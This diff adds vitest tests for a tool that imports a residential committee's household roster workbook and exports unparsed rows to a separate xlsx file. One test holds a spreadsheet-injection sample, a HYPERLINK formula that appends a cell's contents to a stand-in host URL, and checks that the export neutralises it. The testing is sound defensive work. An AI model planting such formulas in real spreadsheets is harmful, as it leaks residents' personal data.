@@ -1,9 +1,9 @@
 // `npm run roster` on a committee's workbook: what it understands, and that it writes it once, on a real server.
 import { spawn } from 'node:child_process';
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { writeXlsx } from 'hucre/xlsx';
+import { readXlsx, writeXlsx } from 'hucre/xlsx';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parseDocument, type DocumentType } from '#lib/domain/parse-document.ts';
 import { couchClient, type CouchClient } from '../scripts/couch-client.ts';
@@ -123,6 +123,55 @@ describe('npm run roster --dry-run', () => {
     expect(out).toContain('一共：有人居住 539 户，1254 人；空房 35 套。');
     expect(out).toContain('第一网格 J203  身份证号码被表格软件当成数字');
     expect(out).toContain('这是试读');
+  });
+});
+
+describe('npm run roster --bad-rows', () => {
+  const cellsOf = async (file: string) => {
+    const reading = await readWorkbook(new Uint8Array(await readFile(file)));
+    return reading.outcome === 'read' ? reading.workbook.sheets : [];
+  };
+
+  it('keeps what was not understood as it stood, with the reason, and never writes over a file', async () => {
+    const file = path.join(folder, 'bad.xlsx');
+    const args = [WORKBOOK, '--dry-run', '--bad-rows', file];
+    expect((await roster(args)).err).toMatch(/没全读懂的 \d+ 行在/);
+    const [sheet] = await cellsOf(file);
+    expect(sheet?.rows[0]).toEqual(expect.arrayContaining(['姓名', '原来的行', '没读懂什么']));
+    const told = JSON.parse((await roster([WORKBOOK, '--dry-run', '--json'])).out) as RosterReport;
+    const rows = new Set([...told.refused, ...told.doubtful].map((one) => `${one.sheet} ${one.row}`));
+    const kept = (await cellsOf(file)).reduce((count, each) => count + each.rows.length - 1, 0);
+    expect(kept).toBe(rows.size);
+    expect(await roster(args)).toMatchObject({
+      exitCode: 2,
+      err: expect.stringContaining('不覆盖') as string,
+    });
+  });
+
+  it('runs nothing when it is opened, and keeps eighteen digits and a plus sign through being read again', async () => {
+    const heading = ['姓名', '楼栋', '单元', '房号', '与户主关系', '身份证号', '电话', '备注'];
+    const formula = '=HYPERLINK("http://example.invalid?"&A1,"名册")';
+    const number = '99999919491231002X';
+    const given = await inFile(
+      'formulas.xlsx',
+      await writeXlsx({
+        sheets: [
+          {
+            name: '第一网格',
+            rows: [heading, ['王桂兰', '3', '1', '101', '户主', number, '+86 1', formula]],
+          },
+        ],
+      }),
+    );
+    const file = path.join(folder, 'formulas-bad.xlsx');
+    await roster([given, '--dry-run', '--bad-rows', file]);
+    const bytes = new Uint8Array(await readFile(file));
+    const raw = await readXlsx(bytes);
+    const texts = raw.sheets.flatMap(({ rows }) => rows.flat()).filter((cell) => typeof cell === 'string');
+    expect(texts).toEqual(expect.arrayContaining([`'${formula}`, "'+86 1", number]));
+    expect(texts.filter((text) => /^\s*[=+@＝＋＠-]/.test(text))).toEqual([]);
+    const [again] = await cellsOf(file);
+    expect(again?.rows[1]?.slice(5, 8)).toEqual([number, '+86 1', formula]);
   });
 });
 
